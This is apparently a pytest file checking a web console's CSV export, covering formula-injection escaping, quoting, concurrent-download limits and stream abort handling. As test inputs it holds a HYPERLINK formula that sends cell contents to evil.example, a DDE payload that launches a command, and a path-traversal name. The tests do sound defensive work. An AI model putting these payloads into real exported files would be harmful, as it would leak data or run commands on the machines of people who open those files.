"""Tables as CSV: for spreadsheets that run what looks like a formula, and for readers who are slow or go away."""

from __future__ import annotations

import csv
import gc
import io
from collections.abc import Iterator
from functools import partial
from typing import Any

import anyio
import pytest
import sqlalchemy as sa
from hypothesis import given, settings
from hypothesis import strategies as st

from bitwitness.store.database import Database
from bitwitness.store.tables import runs, stays
from bitwitness.web.exporting import AT_ONCE, OF_ONE, Exports, _stream, cell, lines
from bitwitness.web.links import EXPORTS, export
from tests.web.client import Console, console

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    with Database(tmp_path_factory.mktemp("database") / "console.db") as database:
        with database.write() as connection:
            for key, name in enumerate((FORMULA, 'a "quoted",\r\nname'), 1):
                connection.execute(
                    sa.insert(runs).values(id=key, name=name, path=f"/{key}", place=str(key), current=True)
                )
            connection.execute(sa.insert(stays).values(run_id=1, rank=0, node="@SUM(1)", device="d", current=True))
        with console(database) as made:
            yield made


def test_every_table_is_there_with_its_columns(shown: Console) -> None:
    for name in EXPORTS:
        answer = shown.program().get(export(name))
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"] == f'attachment; filename="bitwitness-{name}.csv"'
        assert len(next(csv.reader(io.StringIO(answer.text)))) >= 3
    with pytest.raises(ValueError, match="there is no table"):
        export("../etc")


def test_a_formula_is_text_and_a_name_survives(shown: Console) -> None:
    rows = list(csv.DictReader(io.StringIO(shown.program().get("/export/runs.csv").text, newline="")))
    assert [row["name"] for row in rows] == [f"'{FORMULA}", 'a "quoted",\r\nname']
    assert [row["step"] for row in rows] == ["-1", "-1"]  # a number stays one
    one = shown.program().get("/export/runs.csv?run=2")
    assert one.headers["content-disposition"] == 'attachment; filename="bitwitness-runs-run-2.csv"'
    assert len(list(csv.DictReader(io.StringIO(one.text, newline="")))) == 1
    assert shown.program().get("/export/runs.csv?run=3").status_code == 404
    assert shown.program().get("/export/runs.csv?run=x").status_code == 422


@pytest.mark.parametrize(
    "text",
    [
        "=1",
        "+1",
        "-1",
        "@x",
        "\tx",
        "\rx",
        "\nx",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "-",
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-1, -1),
        (-1.5, -1.5),
        (True, "true"),
        (None, ""),
        ("a=b", "a=b"),
        ("", ""),
        (["-x"], '["-x"]'),
        ("a\0b", "a\ufffdb"),
    ],
)
def test_other_values_stay_as_they_are(value: Any, shown: Any) -> None:
    assert cell(value) == shown


@settings(max_examples=60, derandomize=True, deadline=None)
@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=8), min_size=2, max_size=2), max_size=5
    )
)
def test_whatever_is_in_a_table_it_can_be_read_again(rows: list[list[str]]) -> None:
    text = b"".join(lines(["a", "b"], rows)).decode()
    found = list(csv.reader(io.StringIO(text, newline="")))
    assert found[1:] == [[str(cell(value)) for value in row] for row in rows]
    for row in found:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)


def test_rows_come_as_they_are_read() -> None:
    asked = [0]

    def rows() -> Iterator[list[int]]:
        for number in range(10_000):
            asked[0] = number
            yield [number]

    parts = lines(["n"], rows())
    first = next(parts)
    assert asked[0] < 1_000
    assert first.count(b"\n") + sum(part.count(b"\n") for part in parts) == 10_001


def test_only_some_are_fetched_at_once_and_who_goes_away_makes_room(shown: Console) -> None:
    places: Exports = shown.app.state.exports
    for _ in range(OF_ONE):
        places.enter("192.0.2.1")
    answer = shown.program(address="192.0.2.1").get("/export/runs.csv")
    assert (answer.status_code, answer.headers["retry-after"]) == (503, "10")
    assert "for you: try again when one of them is done" in answer.json()["error"]
    assert shown.program(address="192.0.2.2").get("/export/runs.csv").status_code == 200
    for number in range(AT_ONCE - OF_ONE):
        places.enter(f"other {number}")
    answer = shown.program(address="192.0.2.2").get("/export/runs.csv")
    assert (answer.status_code, answer.headers["retry-after"]) == (503, "30")
    assert "no more at once" in answer.json()["error"]
    closed: list[bool] = []

    def rows() -> Iterator[list[int]]:
        try:
            while True:
                yield [1]
        finally:
            closed.append(True)

    async def leave() -> None:
        source = rows()
        stream = _stream(lines(["n"], source), source, partial(places.leave, "192.0.2.1"))
        assert await anext(stream)
        await stream.aclose()  # type: ignore[attr-defined]

    anyio.run(leave)
    gc.collect()
    assert closed == [True]
    assert shown.program().get("/export/runs.csv").status_code == 200  # in the place that became free
    assert len(places) == AT_ONCE - 1
    places._running.clear()


def test_half_a_table_is_no_table(shown: Console) -> None:
    """Where the database fails midway, the connection breaks: a file that ends early would look whole."""

    def rows() -> Iterator[list[int]]:
        yield from ([number] for number in range(2_000))
        raise OSError("gone")

    async def read() -> None:
        places: Exports = shown.app.state.exports
        places.enter("testing")
        source = rows()
        got = [part async for part in _stream(lines(["n"], source), source, partial(places.leave, "testing"))]
        raise AssertionError(f"{len(got)} parts, and no error")

    with pytest.raises(OSError, match="gone"):
        anyio.run(read)
    assert len(shown.app.state.exports) == 0
